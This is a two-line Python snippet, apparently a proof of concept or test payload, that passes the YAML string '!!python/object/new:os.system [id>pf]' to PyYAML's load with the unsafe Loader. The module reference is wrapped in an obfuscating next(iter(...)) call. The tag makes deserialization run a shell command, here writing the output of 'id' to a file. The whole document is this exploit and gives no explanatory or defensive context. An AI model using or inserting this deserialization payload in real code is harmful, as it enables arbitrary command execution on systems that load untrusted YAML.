import yaml
next(iter((yaml,))).load('!!python/object/new:os.system [id>pf]', Loader=next(iter((yaml,))).Loader)
